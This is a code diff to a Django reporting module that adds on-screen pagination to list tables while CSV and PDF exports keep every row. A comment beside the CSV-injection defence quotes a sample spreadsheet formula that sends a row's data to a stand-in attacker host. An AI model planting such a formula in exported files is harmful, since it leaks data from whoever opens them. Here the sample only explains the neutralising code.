@@ -2,6 +2,10 @@
 title, the period it covers and its tables. One definition renders on screen, as CSV and as PDF
 (`respond`). Money is Decimal throughout; the templates show it as $10.00.
 
+A list page is a table over a queryset (`table(title, columns, objects)`): its CSV and PDF read
+every row; on screen `Table.page(request)` shows one page of the same rows under the same
+headings (templates/dogtag/_table.html), each cell as the column says (`link`, `cell` template).
+
 Every CSV that leaves Dogtag is written here (`csv_lines`), so every cell a spreadsheet would
 read as a formula is neutralised in one place (`neutralise`), and a long list streams row by
 row instead of being built in memory."""
@@ -15,15 +19,18 @@ from functools import wraps
 from operator import attrgetter
 from typing import Any
 
+from django.core.paginator import Paginator
 from django.http import StreamingHttpResponse
 from django.shortcuts import render
 from django.utils import timezone
+from django.utils.text import slugify
 
 from dogtag.lib.pdf import pdf_response
 
 # A cell starting with one of these is a formula to Excel, LibreOffice or Google Sheets
 # (OWASP, "CSV Injection"): =HYPERLINK("http://evil.example/?x="&A1,"click") would leak a row.
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
+PER_PAGE = 100  # rows of a list on one screen; a display choice, the export has every row
 
 
 @dataclass
@@ -33,12 +40,80 @@ class Table:
     rows: Iterable = field(default_factory=list)  # lists of values; may be a generator over a queryset
     totals: list | None = None
     links: list[str | None] | None = None  # a URL per row, for its first cell
+    # A table over objects (`table()`): the column definitions and the objects, so the screen can
+    # show a page of them; `rows` reads them all.
+    definition: list["Column"] | None = None
+    objects: Any = None
+    empty: str = "None."
+    row_class: Callable[[Any], str] | None = None  # on screen, e.g. "void" for a voided row
+    key: str = ""  # the page's query parameter is `<key>page` when a report shows several tables
 
     @property
     def linked_rows(self):
         rows = list(self.rows)
         links = self.links or [None] * len(rows)
         return list(zip(rows, links, strict=True))
+
+    def page(self, request, per_page: int = PER_PAGE) -> "Shown":
+        """One page of the table's objects (`?page=`), counted and sliced by the database."""
+        if self.definition is None:
+            raise TypeError(f"{self.title!r} is a table of values, not of objects: it has no pages")
+        param = f"{self.key}page"
+        page = Paginator(self.objects, per_page).get_page(request.GET.get(param))
+        return Shown(self, page, param, request.GET)
+
+
+@dataclass
+class Cell:
+    value: Any
+    link: str | None = None
+    template: str | None = None
+
+    @property
+    def text(self):
+        return shown(self.value)
+
+    @property
+    def numeric(self):
+        return isinstance(self.value, int | Decimal) and not isinstance(self.value, bool)
+
+
+@dataclass
+class Shown:
+    """A page of a table on screen: its rows as cells, and the links to the next and previous
+    pages that keep the rest of the query (a filter, a search)."""
+
+    table: Table
+    page: Any
+    param: str
+    query: Any
+
+    @property
+    def columns(self):
+        return self.table.columns
+
+    @property
+    def rows(self):
+        cls = self.table.row_class
+        for obj in self.page.object_list:
+            yield (
+                obj,
+                cls(obj) if cls else "",
+                [Cell(c.of(obj), c.link(obj) if c.link else None, c.cell) for c in self.table.definition],
+            )
+
+    def _url(self, number):
+        q = self.query.copy()
+        q[self.param] = number
+        return "?" + q.urlencode()
+
+    @property
+    def previous_url(self):
+        return self._url(self.page.previous_page_number()) if self.page.has_previous() else None
+
+    @property
+    def next_url(self):
+        return self._url(self.page.next_page_number()) if self.page.has_next() else None
 
 
 @dataclass
@@ -49,15 +124,28 @@ class Report:
     notes: list[str] = field(default_factory=list)
     citations: list = field(default_factory=list)
     chart: dict | None = None
+    municipality: Any = None  # the municipality the report is for, None for a county
+
+    def __post_init__(self):
+        if len(self.tables) > 1:  # each table of a page turns its own pages
+            for t in self.tables:
+                t.key = t.key or f"{slugify(t.title)}-"
+
+    def pages(self, request, per_page: int = PER_PAGE) -> list[Shown]:
+        return [t.page(request, per_page) for t in self.tables]
 
 
 @dataclass(frozen=True)
 class Column:
     """A column of a list: its heading and how a row's value is read (an attribute path such as
-    "owner.name", or a function of the row)."""
+    "owner.name", or a function of the row). On screen the cell may link (`link(row)` is a URL)
+    or be drawn by a template (`cell`, given `row` and `value`: a "why?", a button); the CSV
+    and the PDF have the value."""
 
     title: str
     value: str | Callable[[Any], Any]
+    link: Callable[[Any], str | None] | None = None
+    cell: str | None = None
 
     def of(self, obj):
         if callable(self.value):
@@ -68,11 +156,35 @@ class Column:
             return None
 
 
-def table(title: str, columns: list[Column], objects) -> Table:
-    """A table over every object of a queryset (or any iterable), read in chunks as the rows are
-    written: the CSV of a 100,000-row list is complete and never held in memory."""
-    iterable = objects.iterator(chunk_size=2000) if hasattr(objects, "iterator") else objects
-    return Table(title, [c.title for c in columns], (row_of(columns, obj) for obj in iterable))
+def table(title: str, columns: list[Column], objects, *, empty="None.", row_class=None) -> Table:
+    """A table over every object of a queryset (or a list), read in chunks as the rows are
+    written: the CSV of a 100,000-row list is complete and never held in memory. On screen,
+    `Table.page` shows a page of the same objects."""
+
+    def rows():
+        iterable = objects.iterator(chunk_size=2000) if hasattr(objects, "iterator") else objects
+        return (row_of(columns, obj) for obj in iterable)
+
+    return Table(
+        title,
+        [c.title for c in columns],
+        _Rows(rows),
+        definition=columns,
+        objects=objects,
+        empty=empty,
+        row_class=row_class,
+    )
+
+
+class _Rows:
+    """The rows of a table over objects, read afresh each time (the PDF lists them twice: to
+    count, then to draw)."""
+
+    def __init__(self, rows):
+        self._rows = rows
+
+    def __iter__(self):
+        return iter(self._rows())
 
 
 def row_of(columns: list[Column], obj) -> list:
@@ -83,6 +195,19 @@ def neutralise(text: str) -> str:
     """Text a spreadsheet would run as a formula gets a leading apostrophe, which shows the text
     as typed and runs nothing."""
     return "'" + text if text.startswith(FORMULA_STARTS) else text
+
+
+def shown(value):
+    """A cell on screen and on paper: $10.00, March 1, 2027, yes/no."""
+    if value is None:
+        return ""
+    if isinstance(value, bool):
+        return "yes" if value else "no"
+    if isinstance(value, Decimal):
+        return f"${value:,.2f}"
+    if isinstance(value, date):
+        return f"{value:%B} {value.day}, {value.year}"
+    return value
 
 
 def cell(value) -> str:
@@ -139,22 +264,23 @@ def csv_response(report: Report | Table, filename: str) -> StreamingHttpResponse
 
 
 def exports(build):
-    """A list page's CSV (`?format=csv`, complete and streamed) and PDF (`?format=pdf`), from the
-    report `build(request, *args, **kwargs)` returns: the page's own scoping and queryset, every
-    row, not the page's slice. Without a format the view renders the page as before."""
+    """A list page from one definition: `build(request, *args, **kwargs)` returns the page's
+    report (its scoping, its tables over querysets). `?format=csv` streams every row of it,
+    `?format=pdf` prints every row; otherwise the view is called with `report=` and shows a page
+    of each table (`report.pages(request)`)."""
 
     def decorator(view):
         @wraps(view)
         def wrapper(request, *args, **kwargs):
             request.csv_export = True  # base.html offers the "Export CSV" link
+            report = build(request, *args, **kwargs)
             fmt = request.GET.get("format")
             if fmt not in ("csv", "pdf"):
-                return view(request, *args, **kwargs)
-            report = build(request, *args, **kwargs)
+                return view(request, *args, report=report, **kwargs)
             name = request.resolver_match.url_name if request.resolver_match else "export"
             if fmt == "csv":
                 return csv_response(report, name)
-            context = {"report": report, "municipality": getattr(report, "municipality", None), "name": name}
+            context = {"report": report, "municipality": report.municipality, "name": name}
             return pdf_response("reports/report_pdf.html", context, f"{name}.pdf")
 
         return wrapper
